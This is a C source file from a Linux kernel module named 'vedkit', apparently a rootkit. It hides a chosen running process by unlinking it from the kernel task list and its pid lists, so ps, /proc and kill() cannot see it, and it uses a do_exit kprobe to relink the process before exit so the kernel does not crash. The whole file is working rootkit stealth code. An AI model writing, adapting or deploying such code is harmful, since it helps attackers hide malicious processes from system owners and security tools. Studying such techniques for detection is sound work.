// SPDX-License-Identifier: GPL-2.0
/*
 * unlink_task: hide a running process (unlink_pid=) by direct kernel object
 * manipulation, as FU and its heirs do: its thread-group leader is taken off
 * the task list (for_each_process, what the kernel's own walks see) and off
 * its pid's task lists (PIDTYPE_PID, PIDTYPE_TGID), so that /proc (readdir
 * and /proc/PID), ps, kill() and every pid lookup miss it.  The scheduler
 * runs it on: a runnable task lives on a run queue, not on those lists.
 *
 * The pid number stays allocated in the PID IDR, so it is not reused.  Only
 * the leader is unlinked: meant for a single-threaded process.
 * rmmod links the task back.  A hidden task that exits would be unlinked a
 * second time by the kernel (release_task) and crash it: a kprobe on
 * do_exit links it back first.
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/kprobes.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>

#include "vedkit.h"

static rwlock_t *vk_tasklist_lock;
static struct task_struct *vk_unlinked;	/* a reference held while hidden */
static bool vk_is_unlinked;

static void vk_unlink(struct task_struct *t)
{
	write_lock_irq(vk_tasklist_lock);
	list_del_rcu(&t->tasks);
	hlist_del_rcu(&t->pid_links[PIDTYPE_PID]);
	hlist_del_rcu(&t->pid_links[PIDTYPE_TGID]);
	vk_is_unlinked = true;
	write_unlock_irq(vk_tasklist_lock);
}

/* Undo vk_unlink(); the pid structure is still the task's own. */
static void vk_relink(struct task_struct *t)
{
	unsigned long flags;

	write_lock_irqsave(vk_tasklist_lock, flags);
	if (vk_is_unlinked) {
		hlist_add_head_rcu(&t->pid_links[PIDTYPE_TGID],
				   &task_tgid(t)->tasks[PIDTYPE_TGID]);
		hlist_add_head_rcu(&t->pid_links[PIDTYPE_PID],
				   &task_pid(t)->tasks[PIDTYPE_PID]);
		list_add_tail_rcu(&t->tasks, &init_task.tasks);
		vk_is_unlinked = false;
	}
	write_unlock_irqrestore(vk_tasklist_lock, flags);
}

static int vk_exit_pre(struct kprobe *p, struct pt_regs *regs)
{
	if (current == vk_unlinked)
		vk_relink(current);
	return 0;
}

static struct kprobe vk_exit_probe = {
	.symbol_name = "do_exit",
	.pre_handler = vk_exit_pre,
};

int vk_unlink_task_init(void)
{
	struct task_struct *t;
	struct pid *pid;
	int ret;

	if (vk_unlink_pid <= 0)
		return -EINVAL;
	vk_tasklist_lock = (rwlock_t *)vk_lookup("tasklist_lock");
	if (!vk_tasklist_lock)
		return -ENOENT;
	pid = find_get_pid(vk_unlink_pid);
	t = get_pid_task(pid, PIDTYPE_TGID);
	put_pid(pid);
	if (!t)
		return -ESRCH;
	vk_unlinked = t;
	ret = register_kprobe(&vk_exit_probe);
	if (ret) {
		put_task_struct(t);
		return ret;
	}
	vk_unlink(t);
	pr_info("pid %d (%s) unlinked from the task list and its pid\n",
		vk_unlink_pid, t->comm);
	return 0;
}

void vk_unlink_task_exit(void)
{
	unregister_kprobe(&vk_exit_probe);
	vk_relink(vk_unlinked);
	put_task_struct(vk_unlinked);
}
